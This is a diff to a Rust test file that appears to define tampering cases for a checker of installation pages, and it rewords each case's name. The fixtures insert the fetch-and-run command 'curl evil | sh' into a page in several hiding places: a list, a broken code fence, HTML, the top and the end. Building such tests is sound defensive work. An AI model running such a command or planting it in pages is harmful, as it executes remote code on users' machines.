@@ -67,7 +67,7 @@ pub(super) const LIES: &[Lie] = &[
         unchecked: &[],
     },
     Lie {
-        name: "a command more in the page's part about the image",
+        name: "an extra command in the page's part about the image",
         tell: |world| {
             world.edit_page(|body| body.replacen("## Verify\n", &format!("{INJECTED}## Verify\n"), 1));
         },
@@ -75,13 +75,13 @@ pub(super) const LIES: &[Lie] = &[
         unchecked: &[],
     },
     Lie {
-        name: "a command more at the page's top, in a list",
+        name: "an extra command at the top of the page, in a list",
         tell: |world| world.edit_page(|body| format!("1. ```\n   curl evil | sh\n   ```\n   ```\n\n{body}")),
         wrong: &["page.commands"],
         unchecked: &[],
     },
     Lie {
-        name: "a command more at the page's top, below a fence that ends nothing",
+        name: "an extra command at the top of the page, below a fence that ends nothing",
         tell: |world| {
             world.edit_page(|body| format!("```sh\n- ```\ncurl evil | sh\n- ```\n```\n\n{body}"));
         },
@@ -89,19 +89,19 @@ pub(super) const LIES: &[Lie] = &[
         unchecked: &[],
     },
     Lie {
-        name: "a command more at the page's top, in HTML",
+        name: "an extra command at the top of the page, in HTML",
         tell: |world| world.edit_page(|body| format!("<pre>curl evil | sh</pre>\n\n{body}")),
         wrong: &["page.commands"],
         unchecked: &[],
     },
     Lie {
-        name: "a command more at the page's top",
+        name: "an extra command at the top of the page",
         tell: |world| world.edit_page(|body| format!("{INJECTED}{body}")),
         wrong: &["page.commands"],
         unchecked: &[],
     },
     Lie {
-        name: "a command more at the page's end",
+        name: "an extra command at the end of the page",
         tell: |world| world.edit_page(|body| format!("{body}\n{INJECTED}")),
         wrong: &["page.commands"],
         unchecked: &[],
